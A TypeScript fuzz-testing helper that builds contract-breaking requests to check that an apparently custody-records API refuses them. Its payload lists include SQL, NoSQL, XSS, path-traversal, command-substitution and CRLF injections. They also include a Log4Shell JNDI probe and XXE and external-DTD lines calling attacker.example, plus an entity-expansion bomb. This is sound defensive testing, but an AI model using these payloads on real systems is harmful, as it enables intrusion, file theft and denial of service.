import fc from 'fast-check';
import {
  closed,
  fillPath,
  type JsonSchema,
  jsonType,
  type OpenApiDoc,
  type Operation,
  resolve,
  sample,
  violates,
} from '../../security/support/openapi.ts';

/**
 * Hostile requests for one write operation, derived from its OpenAPI description: every request is
 * broken in a way the published contract forbids (a schema violation, a body that is not JSON, too
 * big or of another media type, a bad path parameter, query or Idempotency-Key), so the only right
 * answer is a 4xx problem and no write. Whatever may be valid is filtered out, never asserted on.
 */

export interface HostileRequest {
  kind: string;
  /** What was broken, and where: printed with the counterexample. */
  note: string;
  path: string;
  headers: Record<string, string>;
  body?: string | Uint8Array;
  /** The status the contract names for this kind of mistake, when it names one. */
  status?: number;
}

export interface Target {
  doc: OpenApiDoc;
  op: Operation;
  /** Values of the path parameters that name real resources. */
  pathValues: Record<string, string>;
  /** A body the schema accepts (undefined for operations without a body). */
  base: unknown;
  /** The route's body limit when it is not the contract's 64 KiB (a bookings batch takes 1 MiB). */
  maxBodyBytes?: number;
}

export const MAX_BODY_BYTES = 64 * 1024;

/** Years a time of a custody record may plausibly have; anything else is a typo or an attack. */
export const PLAUSIBLE_YEARS = { from: 1900, to: 2199 } as const;

export const INJECTIONS = [
  "'; DROP TABLE holds; --",
  "' OR '1'='1",
  '{"$ne":null}',
  '{"$gt":""}',
  '<script>alert(1)</script>',
  '"><svg onload=alert(1)>',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, meant literally
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '$(reboot)',
  '`id`',
  'TENANT#sec-victim',
  "=cmd|' /C calc'!A0",
  '\r\nX-Injected: 1',
];

export const ODD_UNICODE = [
  '\u0000',
  'a\u0000b',
  '\u202Eevil',
  '\u200B',
  '\uFEFF',
  'e\u0301',
  '\u{1F600}',
  '\uD800',
  'x\uDFFFy',
  '\uFFFF',
  '\uFF46\uFF55\uFF4C\uFF4C',
  '\u0130',
  '\u2028',
  ' ',
  '',
];

export const NUMBERISH = [
  'NaN',
  'Infinity',
  '-Infinity',
  '1e308',
  '-0',
  '0x10',
  '1e-400',
  '9007199254740993',
];

export const BAD_INSTANTS = [
  '0001-01-01T00:00:00Z',
  '0000-01-01T00:00:00Z',
  '1899-12-31T23:59:59Z',
  '2200-01-01T00:00:00Z',
  '9999-12-31T23:59:59Z',
  '2026-02-30T00:00:00Z',
  '2026-02-29T12:00:00Z',
  '2026-04-31T00:00:00Z',
  '2026-13-01T00:00:00Z',
  '2026-00-10T00:00:00Z',
  '2026-11-24T24:00:00Z',
  '2026-11-24T03:60:00Z',
  '2026-11-24T03:00:60Z',
  '2026-11-24T03:00:00+01:00',
  '2026-11-24T03:00:00',
  '2026-11-24 03:00:00Z',
  '2026-11-24',
  '20261124T030000Z',
  '+275760-09-13T00:00:00Z',
  '-000001-01-01T00:00:00Z',
  'now',
  '1732417200',
  'Tue, 24 Nov 2026 03:00:00 GMT',
];

export const BAD_DATES = [
  '0001-01-01',
  '0000-01-01',
  '1899-12-31',
  '2200-01-01',
  '9999-12-31',
  '2026-02-30',
  '2026-02-29',
  '2026-04-31',
  '2026-13-01',
  '2026-00-10',
  '2026-1-5',
  '2026-11-24T00:00:00Z',
  '26-11-24',
  '+2026-11-24',
];

/**
 * Fields the contract says may not lie in the future (API.md, DESIGN.md §3: service, booking, warrant
 * issue, transfer, release, background check, training): refused by the domain (422) after the
 * Idempotency-Key record is taken, so these requests also prove that record is released.
 */
export const NOT_IN_FUTURE = [
  'servedAt',
  'bookedAt',
  'issuedAt',
  'transferredAt',
  'releasedAt',
  'backgroundCheckPassedOn',
  'trainedOn',
];
/** The test clock is frozen at 2026-11-24T03:00:00Z; 2 minutes of skew are allowed. */
const FUTURE_INSTANTS = ['2026-11-24T03:02:01Z', '2026-11-25T03:00:00Z', '2199-12-31T23:59:59Z'];
const FUTURE_DATES = ['2026-11-26', '2199-12-31'];

const MALFORMED_JSON = [
  '{',
  '}',
  '{"a":1,}',
  "{'a':1}",
  '{"a":1}{"b":2}',
  '[1,2',
  'NaN',
  'undefined',
  '{"a":NaN}',
  '{"a":Infinity}',
  '{"a":01}',
  '{"a":"\u0000"}',
  '{"a":"\\x41"}',
  '{"a":"\\ud800"',
  '/* comment */ {}',
  '{"a":1 // comment\n}',
  '\uFEFF{}',
  '{a:1}',
  '{"a" 1}',
  '[]]',
  '"unterminated',
  '{"__proto__":',
  '['.repeat(20_000),
  `${'{"a":'.repeat(5_000)}1`,
];

const WRONG_TYPED: unknown[] = [
  null,
  true,
  false,
  0,
  -1,
  1.5,
  1e308,
  'text',
  '',
  [],
  [1],
  {},
  { $ne: null },
  { $gt: '' },
];

const UNKNOWN_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  '$where',
  '$ne',
  'pk',
  'sk',
  'tenantId',
  'status',
  'version',
  'citizenship',
  'nationality',
  'immigrationStatus',
  'isAdmin',
  '',
];

const BAD_CONTENT_TYPES = [
  'text/plain',
  'text/json',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/json-seq',
  'application/jsonp',
  'application/xml',
  'application/x-json',
  'json',
  '*/*',
];

const BAD_IDEMPOTENCY_KEYS = ['x'.repeat(129), 'a b', 'caf\u00e9', '"quoted key" with spaces'];

const HOSTILE_XML = [
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">${Array.from(
    { length: 8 },
    (_, i) => `<!ENTITY ${String.fromCharCode(98 + i)} "${`&${String.fromCharCode(97 + i)};`.repeat(10)}">`,
  ).join('')}]><l>&i;</l>`,
  '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://attacker.example/x.dtd"><x/>',
  '<x><y></x>',
  '<x>',
  'not xml at all',
  '<?xml version="1.0"?>',
  `${'<a>'.repeat(20_000)}${'</a>'.repeat(20_000)}`.slice(0, 60_000),
  '<x xmlns:j="urn:j"><j:Booking/><j:Booking/></x>',
  '<x>&unknown;</x>',
  '<x>&#0;</x>',
  '<x>&#xD800;</x>',
];

const RAW_NUMBER_TOKENS = [
  '1e400',
  '-1e400',
  '1e308',
  '-1',
  '1.5',
  '241',
  '-0.5',
  '123456789012345678901234567890',
];

/** Grows a string past `max` characters (and past any trimming) while keeping its hostile content. */
const pastMax = (seed: string, max: number): string => {
  const unit = seed.trim() === '' ? 'x' : seed.replaceAll(/^\s+|\s+$/g, '');
  return unit.repeat(Math.ceil((max + 1) / Math.max(1, unit.length)) + 1);
};

const PLACEHOLDER = '__raw_token_7f3a__';

type Path = (string | number)[];
interface Field {
  path: Path;
  schema: JsonSchema;
}

const nonNull = (doc: OpenApiDoc, schema: JsonSchema): JsonSchema => {
  const s = resolve(doc, schema);
  const options = (s.anyOf ?? s.oneOf) as JsonSchema[] | undefined;
  if (!options) return s;
  return resolve(doc, options.find((o) => resolve(doc, o).type !== 'null') ?? (options[0] as JsonSchema));
};

const formatOf = (doc: OpenApiDoc, schema: JsonSchema): string | undefined => {
  const format = nonNull(doc, schema).format;
  return typeof format === 'string' ? format : undefined;
};

/** Every property at any depth (array items as index 0), and every object that refuses unknown keys. */
function walk(
  doc: OpenApiDoc,
  schema: JsonSchema,
  prefix: Path = [],
  depth = 0,
): { fields: Field[]; objects: Field[] } {
  const fields: Field[] = [];
  const objects: Field[] = [];
  if (depth > 6) return { fields, objects };
  const s = nonNull(doc, schema);
  if (s.properties) {
    if (closed(s)) objects.push({ path: prefix, schema: s });
    for (const [name, property] of Object.entries(s.properties as Record<string, JsonSchema>)) {
      fields.push({ path: [...prefix, name], schema: property });
      const inner = walk(doc, property, [...prefix, name], depth + 1);
      fields.push(...inner.fields);
      objects.push(...inner.objects);
    }
  } else if (s.type === 'array' && s.items) {
    const items = s.items as JsonSchema;
    fields.push({ path: [...prefix, 0], schema: items });
    const inner = walk(doc, items, [...prefix, 0], depth + 1);
    fields.push(...inner.fields);
    objects.push(...inner.objects);
  }
  return { fields, objects };
}

/** The schema at a path of the body. */
function schemaAt(doc: OpenApiDoc, root: JsonSchema, path: Path): JsonSchema {
  let current = root;
  for (const step of path) {
    const s = nonNull(doc, current);
    current =
      typeof step === 'number'
        ? ((s.items ?? {}) as JsonSchema)
        : (((s.properties ?? {}) as Record<string, JsonSchema>)[step] ?? {});
  }
  return current;
}

/** A copy of `base` with `value` at `path`, creating missing containers from the schema. */
function setAt(doc: OpenApiDoc, root: JsonSchema, base: unknown, path: Path, value: unknown): unknown {
  const copy = structuredClone(base) as Record<string | number, unknown>;
  let container: Record<string | number, unknown> = copy;
  for (const [index, step] of path.entries()) {
    const last = index === path.length - 1;
    if (last) {
      define(container, step, value);
      break;
    }
    let next = container[step];
    if (next === null || typeof next !== 'object') {
      const nextSchema = nonNull(doc, schemaAt(doc, root, path.slice(0, index + 1)));
      next = nextSchema.type === 'array' ? [] : sample(doc, nextSchema);
      if (next === null || typeof next !== 'object') next = {};
      define(container, step, next);
    }
    if (Array.isArray(next) && next.length === 0 && typeof path[index + 1] === 'number') {
      next.push(sample(doc, schemaAt(doc, root, [...path.slice(0, index + 1), 0])));
    }
    container = next as Record<string | number, unknown>;
  }
  return copy;
}

/** Sets an own, enumerable property even when it is called `__proto__`. */
function define(target: Record<string | number, unknown>, key: string | number, value: unknown): void {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
}

function deleteAt(base: unknown, path: Path): unknown {
  const copy = structuredClone(base) as Record<string | number, unknown>;
  let container: Record<string | number, unknown> | undefined = copy;
  for (const step of path.slice(0, -1))
    container = container?.[step] as Record<string | number, unknown> | undefined;
  if (container) delete container[path[path.length - 1] as string | number];
  return copy;
}

const yearOf = (value: string): number | undefined => {
  const match = /^([+-]?\d{4,6})-/.exec(value);
  return match ? Number(match[1]) : undefined;
};

/**
 * True when the contract certainly refuses `value`: the schema says so, or a date or time lies
 * outside the plausible years.
 */
export function mustRefuse(doc: OpenApiDoc, schema: JsonSchema, value: unknown): boolean {
  if (violates(doc, schema, value)) return true;
  return implausibleTime(doc, schema, value);
}

function implausibleTime(doc: OpenApiDoc, schema: JsonSchema, value: unknown, depth = 0): boolean {
  if (depth > 8 || value === null || value === undefined) return false;
  const s = nonNull(doc, schema);
  if (typeof value === 'string') {
    const format = formatOf(doc, schema);
    if (format !== 'date' && format !== 'date-time') return false;
    const year = yearOf(value);
    return year !== undefined && (year < PLAUSIBLE_YEARS.from || year > PLAUSIBLE_YEARS.to);
  }
  if (Array.isArray(value)) {
    return value.some((item) => implausibleTime(doc, (s.items ?? {}) as JsonSchema, item, depth + 1));
  }
  if (typeof value === 'object') {
    const properties = (s.properties ?? {}) as Record<string, JsonSchema>;
    return Object.entries(value).some(
      ([name, item]) =>
        Object.hasOwn(properties, name) &&
        implausibleTime(doc, properties[name] as JsonSchema, item, depth + 1),
    );
  }
  return false;
}

const describePath = (path: Path) => (path.length === 0 ? 'the body' : `body.${path.join('.')}`);

const short = (value: unknown): string => {
  const text = typeof value === 'string' ? JSON.stringify(value) : (JSON.stringify(value) ?? String(value));
  return text.length > 80 ? `${text.slice(0, 80)}… (${text.length} chars)` : text;
};

/**
 * All the ways to break a request to this operation: `arbitrary` draws from every kind at random;
 * `examples` holds one request of each kind (and an unknown field at the top of the body), run first
 * so that no kind depends on luck.
 */
export function hostileRequests(
  target: Target,
  seed: number,
): { arbitrary: fc.Arbitrary<HostileRequest>; examples: HostileRequest[] } {
  const kinds = hostileKinds(target);
  const printable = (request: HostileRequest) =>
    Object.assign(request, { [fc.toStringMethod]: () => show(request) });
  const examples = kinds.flatMap((kind) => fc.sample(kind, { numRuns: 1, seed }));
  const { doc, op, base } = target;
  if (op.body && base && typeof base === 'object' && !Array.isArray(base)) {
    const body = { ...base, citizenship: 'US' };
    if (mustRefuse(doc, op.body, body)) {
      examples.push({
        kind: 'unknown-field',
        note: 'unknown field "citizenship" in the body (no immigration fields, DESIGN.md §1)',
        path: fillPath(op.path, target.pathValues),
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify(body),
      });
    }
  }
  return { arbitrary: fc.oneof(...kinds).map(printable), examples: examples.map(printable) };
}

function hostileKinds(target: Target): fc.Arbitrary<HostileRequest>[] {
  const { doc, op, pathValues, base } = target;
  const path = fillPath(op.path, pathValues);
  const schema = op.body;
  const jsonHeaders = { 'content-type': 'application/json' };
  const make = (kind: string, note: string, rest: Partial<HostileRequest> = {}): HostileRequest => ({
    kind,
    note,
    path,
    headers: jsonHeaders,
    ...rest,
  });
  const withBody = (kind: string, note: string, body: unknown) =>
    make(kind, note, { body: JSON.stringify(body) });

  /** A body JSON text that is not acceptable: anything for a body-less operation but `{}`. */
  const refusedText = (text: string): boolean => (schema ? true : text !== '' && text.trim() !== '{}');
  const refusedValue = (value: unknown): boolean =>
    schema ? mustRefuse(doc, schema, value) : JSON.stringify(value).trim() !== '{}';

  const kinds: fc.Arbitrary<HostileRequest>[] = [];

  kinds.push(
    fc
      .jsonValue({ maxDepth: 3 })
      .filter(refusedValue)
      .map((value) => withBody('random-json', 'a random JSON value as the body', value)),
  );

  const baseText = base === undefined ? '{}' : JSON.stringify(base);
  kinds.push(
    fc
      .oneof(
        fc.constantFrom(...MALFORMED_JSON),
        fc.nat({ max: Math.max(0, baseText.length - 1) }).map((cut) => baseText.slice(0, cut)),
      )
      .filter((text) => refusedText(text) && !isJson(text, schema, doc))
      .map((text) => make('malformed-json', `malformed JSON ${short(text)}`, { body: text })),
  );

  kinds.push(
    fc
      .record({
        size: fc.integer({
          min: (target.maxBodyBytes ?? MAX_BODY_BYTES) + 1,
          max: (target.maxBodyBytes ?? MAX_BODY_BYTES) + 192 * 1024,
        }),
        how: fc.constantFrom('whitespace', 'field', 'multibyte', 'garbage'),
      })
      .map(({ size, how }) => {
        let text: string;
        if (how === 'whitespace') text = baseText + ' '.repeat(size - baseText.length);
        else if (how === 'field') text = JSON.stringify({ ...asObject(base), padding: 'x'.repeat(size) });
        else if (how === 'multibyte')
          text = JSON.stringify({ ...asObject(base), padding: '\u20AC'.repeat(Math.ceil(size / 3)) });
        else text = 'A'.repeat(size);
        return make('oversized', `${Buffer.byteLength(text)} bytes (${how})`, { body: text, status: 413 });
      }),
  );

  kinds.push(
    fc.constantFrom(...[0xff, 0xfe, 0xc0, 0x80]).map((byte) => {
      const bytes = Buffer.concat([Buffer.from([byte, 0xaf]), Buffer.from(baseText)]);
      return make('invalid-utf8', `body starting with bytes ${byte.toString(16)} af`, {
        body: new Uint8Array(bytes),
      });
    }),
  );

  kinds.push(
    fc
      .constantFrom('?x=1', '?__proto__=1', '?tenantId=sec-victim', '?limit=1&limit=2', '?%00=%00')
      .map((query) =>
        make('query', `unexpected query ${query}`, {
          path: path + query,
          ...(base !== undefined ? { body: baseText } : {}),
        }),
      ),
  );

  const pathParams = op.pathParams.flatMap((param) => {
    const candidates = [
      ...INJECTIONS,
      ...ODD_UNICODE,
      ...NUMBERISH,
      pastMax('x', 100),
      pastMax('A', 300),
    ].filter((value) => value !== '' && encodable(value) && violates(doc, param.schema, value));
    return candidates.map((value) => ({ name: param.name, value }));
  });
  if (pathParams.length > 0) {
    kinds.push(
      fc.constantFrom(...pathParams).map(({ name, value }) =>
        make('path-param', `path parameter ${name} = ${short(value)}`, {
          path: fillPath(op.path, { ...pathValues, [name]: value }),
          ...(base !== undefined ? { body: baseText } : {}),
        }),
      ),
    );
  }

  if (op.idempotent) {
    kinds.push(
      fc.constantFrom(...BAD_IDEMPOTENCY_KEYS).map((key) =>
        make('idempotency-key', `Idempotency-Key ${short(key)}`, {
          headers: { ...jsonHeaders, 'idempotency-key': key },
          ...(base !== undefined ? { body: baseText } : {}),
          status: 400,
        }),
      ),
    );
  }

  if (schema && base !== undefined) {
    const accepted = new Set(op.bodyTypes);
    const types = BAD_CONTENT_TYPES.filter((type) => !accepted.has(type.split(';')[0] as string));
    kinds.push(
      fc.constantFrom(...types, null).map((type) =>
        type === null
          ? make('content-type', 'no Content-Type', {
              headers: {},
              body: new Uint8Array(Buffer.from(baseText)),
              status: 415,
            })
          : make('content-type', `Content-Type ${type}`, {
              headers: { 'content-type': type },
              body: baseText,
              status: 415,
            }),
      ),
    );
    kinds.push(...bodyMutations(doc, schema, base, withBody));
  }

  const xmlType = op.bodyTypes.find((type) => type.endsWith('/xml'));
  if (xmlType) {
    kinds.push(
      fc
        .constantFrom(...HOSTILE_XML)
        .map((xml) =>
          make('hostile-xml', `XML ${short(xml)}`, { headers: { 'content-type': xmlType }, body: xml }),
        ),
    );
  }

  return kinds;
}

/** Mutations of a valid body, one field (or object) at a time. */
function bodyMutations(
  doc: OpenApiDoc,
  schema: JsonSchema,
  base: unknown,
  withBody: (kind: string, note: string, body: unknown) => HostileRequest,
): fc.Arbitrary<HostileRequest>[] {
  const { fields, objects } = walk(doc, schema);
  const kinds: fc.Arbitrary<HostileRequest>[] = [];
  const refused = (body: unknown) => mustRefuse(doc, schema, body);
  const at = (field: Field, value: unknown) => setAt(doc, schema, base, field.path, value);

  const wrongTypes = fields.flatMap((field) =>
    WRONG_TYPED.filter((value) => violates(doc, field.schema, value)).map((value) => ({ field, value })),
  );
  if (wrongTypes.length > 0) {
    kinds.push(
      fc
        .constantFrom(...wrongTypes)
        .map(({ field, value }) => ({ field, value, body: at(field, value) }))
        .filter(({ body }) => refused(body))
        .map(({ field, value, body }) =>
          withBody('wrong-type', `${describePath(field.path)} = ${short(value)} (${jsonType(value)})`, body),
        ),
    );
  }

  if (objects.length > 0) {
    kinds.push(
      fc
        .record({
          object: fc.constantFrom(...objects),
          key: fc.oneof(fc.constantFrom(...UNKNOWN_KEYS), fc.string({ minLength: 1, maxLength: 12 })),
          value: fc.jsonValue({ maxDepth: 1 }),
        })
        .filter(({ object, key }) => !Object.hasOwn((object.schema.properties ?? {}) as object, key))
        .map(({ object, key, value }) => {
          const container = object.path.length === 0 ? base : undefined;
          const parent = container ?? getAt(base, object.path);
          const replaced =
            parent && typeof parent === 'object' && !Array.isArray(parent)
              ? structuredClone(parent)
              : sample(doc, object.schema);
          define(replaced as Record<string, unknown>, key, value);
          const body = object.path.length === 0 ? replaced : setAt(doc, schema, base, object.path, replaced);
          return { body, note: `unknown field ${short(key)} in ${describePath(object.path)}` };
        })
        .filter(({ body }) => refused(body))
        .map(({ body, note }) => withBody('unknown-field', note, body)),
    );
  }

  const required = objects.flatMap((object) =>
    ((nonNull(doc, object.schema).required as string[] | undefined) ?? []).map((name) => [
      ...object.path,
      name,
    ]),
  );
  const presentRequired = required.filter((path) => getAt(base, path) !== undefined);
  if (presentRequired.length > 0) {
    kinds.push(
      fc
        .constantFrom(...presentRequired)
        .map((path) => withBody('missing-field', `without ${describePath(path)}`, deleteAt(base, path))),
    );
  }

  const strings = fields.filter((field) => {
    const s = nonNull(doc, field.schema);
    return s.type === 'string' || s.enum !== undefined;
  });
  const hostileStrings = strings.flatMap((field) => {
    const s = nonNull(doc, field.schema);
    const max = typeof s.maxLength === 'number' ? s.maxLength : 2048;
    const format = formatOf(doc, field.schema);
    const times = format === 'date-time' ? BAD_INSTANTS : format === 'date' ? BAD_DATES : [];
    const candidates = [
      ...INJECTIONS,
      ...INJECTIONS.map((value) => `${value}\u0000`),
      ...ODD_UNICODE,
      ...NUMBERISH,
      ...times,
      pastMax('A', max),
      pastMax('\u{1F600}', max),
      pastMax("'; DROP TABLE holds; --", max),
    ];
    return candidates.map((value) => ({ field, value, times: times.includes(value) }));
  });
  const refusedStrings = hostileStrings
    .map((entry) => ({ ...entry, body: at(entry.field, entry.value) }))
    .filter(({ body }) => refused(body));
  const timeCases = refusedStrings.filter((entry) => entry.times);
  const otherCases = refusedStrings.filter((entry) => !entry.times);
  if (otherCases.length > 0) {
    kinds.push(
      fc
        .constantFrom(...otherCases)
        .map(({ field, value, body }) =>
          withBody('hostile-string', `${describePath(field.path)} = ${short(value)}`, body),
        ),
    );
  }
  if (timeCases.length > 0) {
    kinds.push(
      fc
        .constantFrom(...timeCases)
        .map(({ field, value, body }) =>
          withBody('bad-time', `${describePath(field.path)} = ${short(value)}`, body),
        ),
    );
  }

  const future = fields.flatMap((field) => {
    const name = field.path[field.path.length - 1];
    const format = formatOf(doc, field.schema);
    if (typeof name !== 'string' || !NOT_IN_FUTURE.includes(name) || getAt(base, field.path) === undefined)
      return [];
    const values = format === 'date-time' ? FUTURE_INSTANTS : format === 'date' ? FUTURE_DATES : [];
    return values.map((value) => ({ field, value }));
  });
  if (future.length > 0) {
    kinds.push(
      fc
        .constantFrom(...future)
        .map(({ field, value }) =>
          withBody('future-time', `${describePath(field.path)} = ${value}`, at(field, value)),
        ),
    );
  }

  const numbers = fields.filter((field) =>
    ['integer', 'number'].includes(String(nonNull(doc, field.schema).type)),
  );
  const rawNumbers = numbers.flatMap((field) => [
    ...RAW_NUMBER_TOKENS.map((token) => ({ field, token, raw: true })),
    ...NUMBERISH.map((token) => ({ field, token, raw: false })),
  ]);
  const refusedNumbers = rawNumbers.filter(({ field, token, raw }) =>
    refused(at(field, raw ? JSON.parse(token) : token)),
  );
  if (refusedNumbers.length > 0) {
    kinds.push(
      fc.constantFrom(...refusedNumbers).map(({ field, token, raw }) => {
        if (!raw)
          return withBody(
            'numberish',
            `${describePath(field.path)} = ${JSON.stringify(token)}`,
            at(field, token),
          );
        const text = JSON.stringify(at(field, PLACEHOLDER)).replace(`"${PLACEHOLDER}"`, token);
        return { ...withBody('numberish', `${describePath(field.path)} = ${token} (raw)`, null), body: text };
      }),
    );
  }

  if (fields.length > 0) {
    // A key given twice: JSON.parse keeps the last, so the last one is the refused value.
    const duplicates = wrongTypes.filter(({ field }) => field.path.length === 1);
    if (duplicates.length > 0) {
      kinds.push(
        fc.constantFrom(...duplicates).map(({ field, value }) => {
          const text = JSON.stringify(base);
          const key = String(field.path[0]);
          const body = `${text.slice(0, -1)}${text.length > 2 ? ',' : ''}${JSON.stringify(key)}:${JSON.stringify(value)}}`;
          return { ...withBody('duplicate-key', `${key} given twice, last ${short(value)}`, null), body };
        }),
      );
    }
  }
  return kinds;
}

function getAt(value: unknown, path: Path): unknown {
  let current = value;
  for (const step of path) {
    if (current === null || typeof current !== 'object') return undefined;
    current = (current as Record<string | number, unknown>)[step];
  }
  return current;
}

const encodable = (value: string): boolean => {
  try {
    encodeURIComponent(value);
    return true;
  } catch {
    return false;
  }
};

const asObject = (value: unknown): Record<string, unknown> =>
  value && typeof value === 'object' && !Array.isArray(value) ? (value as Record<string, unknown>) : {};

/** True when `text` is JSON the contract may accept (then it is not "malformed"). */
function isJson(text: string, schema: JsonSchema | undefined, doc: OpenApiDoc): boolean {
  try {
    const value = JSON.parse(text);
    return schema ? !mustRefuse(doc, schema, value) : JSON.stringify(value) === '{}';
  } catch {
    return false;
  }
}

function show(request: HostileRequest): string {
  const body =
    request.body === undefined
      ? '(none)'
      : typeof request.body === 'string'
        ? short(request.body)
        : `${request.body.length} raw bytes`;
  return `[${request.kind}] ${request.note} | ${request.path.slice(0, 160)} | headers ${JSON.stringify(request.headers)} | body ${body}`;
}
